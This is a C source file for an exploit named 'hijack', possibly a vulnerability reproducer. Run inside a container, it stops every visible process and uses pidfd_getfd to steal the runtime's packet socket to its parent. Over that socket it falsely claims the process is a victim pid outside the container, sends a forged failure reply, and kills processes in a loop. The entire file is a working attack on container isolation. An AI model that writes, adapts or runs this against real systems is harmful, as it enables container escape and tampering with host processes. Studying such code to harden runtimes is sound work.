/* A container process that speaks for the runtime's: it stops each process that appears, takes the
 * runtime's line to its parent out of it, and says there that the process is another one.
 *
 *   hijack LOG VICTIM
 *
 * VICTIM is a pid outside of the container. LOG gets a line for each time that it could speak.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* The first packet socket among the process's descriptors; -1 if it has none. */
static int line_of(int pid) {
    int pidfd = syscall(SYS_pidfd_open, pid, 0), line = -1;
    for (int number = 3; pidfd >= 0 && line < 0 && number < 64; number++) {
        int type = 0;
        socklen_t size = sizeof type;
        line = syscall(SYS_pidfd_getfd, pidfd, number, 0);
        if (line >= 0 && (getsockopt(line, SOL_SOCKET, SO_TYPE, &type, &size) || type != SOCK_SEQPACKET)) {
            close(line);
            line = -1;
        }
    }
    if (pidfd >= 0)
        close(pidfd);
    return line;
}

int main(int argc, char **argv) {
    FILE *log = argc == 3 ? fopen(argv[1], "a") : NULL;
    if (!log)
        return 2;
    int32_t victim = atoi(argv[2]);
    char says[5] = "P", answer;
    memcpy(says + 1, &victim, sizeof victim);
    fprintf(log, "begun\n");
    fflush(log);
    for (;;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *e; proc && (e = readdir(proc));) {
            int pid = atoi(e->d_name);
            if (!isdigit((unsigned char)e->d_name[0]) || pid == getpid() || kill(pid, SIGSTOP))
                continue;
            int line = line_of(pid);
            if (line >= 0 && write(line, says, sizeof says) == sizeof says) {
                fprintf(log, "spoke\n");
                fflush(log);
                /* The runtime waits for the end of the one, and answers for the other. */
                kill(pid, SIGKILL);
                struct timeval patience = {2, 0};
                setsockopt(line, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
                if (read(line, &answer, 1) == 1)
                    write(line, "Efailed", 7);
            }
            if (line >= 0)
                close(line);
            kill(pid, SIGKILL);
        }
        if (proc)
            closedir(proc);
    }
}
